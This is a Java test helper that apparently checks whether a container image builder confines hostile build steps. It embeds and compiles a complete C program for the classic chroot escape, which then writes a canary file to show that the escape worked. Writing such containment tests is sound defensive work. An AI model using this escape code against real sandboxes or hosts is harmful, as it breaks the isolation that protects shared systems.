package dev.strata.image;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * A static program a hostile RUN carries in: the classic chroot escape (keep a descriptor of the
 * current root, chroot into a subdirectory, fchdir back out, climb with "..", chroot(".")), then
 * it writes the canary file named by its argument. It prints ESCAPED when the write succeeded.
 */
final class Escape {
    private Escape() {}

    private static final String SOURCE = """
            #include <fcntl.h>
            #include <stdio.h>
            #include <sys/stat.h>
            #include <unistd.h>
            int main(int argc, char **argv) {
                int fd = open("/", O_RDONLY | O_DIRECTORY);
                mkdir("/.escape", 0700);
                if (chroot("/.escape") != 0) perror("chroot /.escape");
                if (fd >= 0 && fchdir(fd) != 0) perror("fchdir");
                for (int i = 0; i < 64; i++) chdir("..");
                if (chroot(".") != 0) perror("chroot .");
                for (int i = 1; i < argc; i++) {
                    FILE *f = fopen(argv[i], "w");
                    if (f) { fputs("escaped\\n", f); fclose(f); printf("ESCAPED to %s\\n", argv[i]); }
                }
                return 0;
            }
            """;

    /** Compiles the program (static, so it runs in a busybox root) to {@code target}. */
    static Path compile(Path target) throws IOException {
        Sh.require("gcc");
        Path source = target.resolveSibling("escape.c");
        Files.writeString(source, SOURCE);
        Sh.ok("gcc", "-static", "-O1", "-o", target.toString(), source.toString());
        Files.delete(source);
        return target;
    }
}
